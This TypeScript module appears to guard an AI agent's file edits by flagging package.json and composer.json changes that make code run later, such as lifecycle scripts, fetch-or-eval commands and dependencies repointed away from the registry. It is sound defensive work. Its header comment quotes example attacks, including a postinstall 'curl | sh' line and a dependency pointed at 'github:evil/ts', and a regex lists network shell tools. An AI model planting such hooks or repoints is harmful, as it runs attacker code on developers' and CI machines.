// What a manifest edit makes run later without anyone naming it: package.json's lifecycle scripts (npm, yarn
// and pnpm run `preinstall`, `install`, `postinstall`, `prepare` on every install; `prepack` on every pack), a
// pre/post hook added to any script (`prebuild` runs with `npm run build`), a script changed to fetch and run
// code, a dependency repointed from the registry to a path, a repository or a URL (its install scripts and code
// come from there), composer's event scripts. Pure: texts in, changes out.
//
// Threat: a file edit that adds `"postinstall": "curl -s https://x/a | sh"` or repoints `"typescript"` to
// `github:evil/ts` is allowed as an edit of a JSON file, and the code runs at the next `npm install` — the
// person's, a CI job's, or the agent's own — where nobody reads package.json first.
import type { JsonManifest, SettingChange } from './manifest';

const LIFECYCLE: Record<JsonManifest, RegExp> = {
  package: /^(?:pre|post)?(?:install|prepare|prepublish|prepublishOnly|pack|publish|dependencies|uninstall|shrinkwrap)$/,
  composer: /^(?:pre|post)-(?:install|update|autoload|root-package|create-project|package|archive|status|operations)[\w-]*$/,
  deno: /^$/,
};

/** A command that downloads, decodes or evaluates text (what a planted script does to hide its payload). */
const FETCHES_OR_EVALS =
  /(?:^|[\s;&|(`'"])(?:curl|wget|fetch|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|iex|Invoke-Expression|nc|ncat|socat|eval|base64|xxd|openssl)(?=$|[\s;&|)`'"])|\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\/dev\/tcp\//i;

/** A dependency spec that is not a registry version: a path, a link, a repository, a URL, an alias. */
const NOT_REGISTRY =
  /^(?:file:|link:|portal:|patch:|git[+:]|github:|gitlab:|bitbucket:|gist:|https?:|ssh:|npm:|workspace:[^*^~]|[\w.-]+\/[\w.-]+(?:#.*)?$|\.{0,2}\/|~\/)/i;

const DEP_BLOCKS = ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies', 'bundleDependencies', 'overrides', 'resolutions'];

type Obj = Record<string, unknown>;
const isObject = (x: unknown): x is Obj => typeof x === 'object' && x !== null && !Array.isArray(x);

function parse(text: string | undefined): Obj | undefined {
  if (text === undefined) return {};
  try {
    const o: unknown = JSON.parse(text.replace(/^\uFEFF/, ''));
    return isObject(o) ? o : undefined;
  } catch {
    return undefined;
  }
}

const scriptText = (v: unknown) => (Array.isArray(v) ? v.map(String).join(' && ') : typeof v === 'string' ? v : JSON.stringify(v));

function scripts(o: Obj): Map<string, string> {
  const m = new Map<string, string>();
  if (isObject(o.scripts)) for (const [k, v] of Object.entries(o.scripts)) m.set(k, scriptText(v).replace(/\s+/g, ' ').trim());
  return m;
}

/** name → spec of every dependency-like entry (nested overrides flattened with `>`). */
function deps(o: Obj): Map<string, string> {
  const m = new Map<string, string>();
  const walk = (prefix: string, v: unknown) => {
    if (typeof v === 'string') m.set(prefix, v);
    else if (isObject(v)) for (const [k, x] of Object.entries(v)) walk(prefix ? `${prefix}>${k}` : k, x);
  };
  for (const b of DEP_BLOCKS) walk(b, o[b]);
  if (isObject(o.pnpm)) walk('pnpm.overrides', o.pnpm.overrides);
  return m;
}

const clip = (s: string) => JSON.stringify(s.length > 80 ? s.slice(0, 80) + '…' : s);

/**
 * The changes that make code run later: undefined when a text is not a JSON object (the caller falls back to
 * `fragmentRunsLater`). `oldText` undefined: the manifest is created.
 */
export function runsLaterChanges(kind: JsonManifest, oldText: string | undefined, newText: string | undefined): SettingChange[] | undefined {
  if (kind === 'deno' || newText === undefined) return [];
  const before = parse(oldText);
  const after = parse(newText);
  if (!before || !after) return undefined;
  const out: SettingChange[] = [];
  const o = scripts(before);
  const a = scripts(after);
  // `prebuild` runs with `npm run build`; `prettier` and `postcss` are scripts of their own.
  const hook = (k: string) => kind === 'package' && /^(?:pre|post)(.+)$/.exec(k) !== null && a.has(k.replace(/^(?:pre|post)/, ''));
  for (const [k, n] of a) {
    if (o.get(k) === n) continue;
    const verb = o.has(k) ? 'changed to' : 'added:';
    if (LIFECYCLE[kind].test(k) || hook(k))
      out.push({ key: `scripts.${k}`, what: `scripts.${k} ${verb} ${clip(n)} (runs on its own, at install or with another script)` });
    else if (FETCHES_OR_EVALS.test(n) && !FETCHES_OR_EVALS.test(o.get(k) ?? ''))
      out.push({ key: `scripts.${k}`, what: `scripts.${k} ${verb} ${clip(n)} (downloads or evaluates code)` });
  }
  if (kind === 'package') {
    const od = deps(before);
    for (const [k, n] of deps(after)) {
      if (od.get(k) === n || !NOT_REGISTRY.test(n.trim())) continue;
      out.push({
        key: k,
        what: `${k.replace(/>/g, ' › ')} ${od.has(k) ? `repointed from ${clip(od.get(k)!)} to` : 'added from'} ${clip(n)} (not the registry: its code and install scripts come from there)`,
      });
    }
  }
  return out;
}

/** For fragments of an edit the bridge could not place: the `"key": "value"` pairs they add or change. */
export function fragmentRunsLater(kind: JsonManifest, oldText: string, newText: string): SettingChange[] {
  if (kind === 'deno') return [];
  const pairs = (t: string) => {
    const m = new Map<string, string>();
    for (const x of t.matchAll(/"((?:[^"\\]|\\.)*)"\s*:\s*"((?:[^"\\]|\\.)*)"/g)) m.set(x[1], x[2]);
    return m;
  };
  const o = pairs(oldText);
  const out: SettingChange[] = [];
  for (const [k, n] of pairs(newText)) {
    if (o.get(k) === n) continue;
    if (
      LIFECYCLE[kind].test(k) ||
      FETCHES_OR_EVALS.test(n) ||
      (kind === 'package' && /^(?:file|link|portal|git[+:]|github|gitlab|bitbucket|gist|https?|ssh|npm):/i.test(n))
    )
      out.push({ key: k, what: `"${k}": ${clip(n)} ${o.has(k) ? 'changed' : 'added'} (may run code later)` });
  }
  return out;
}
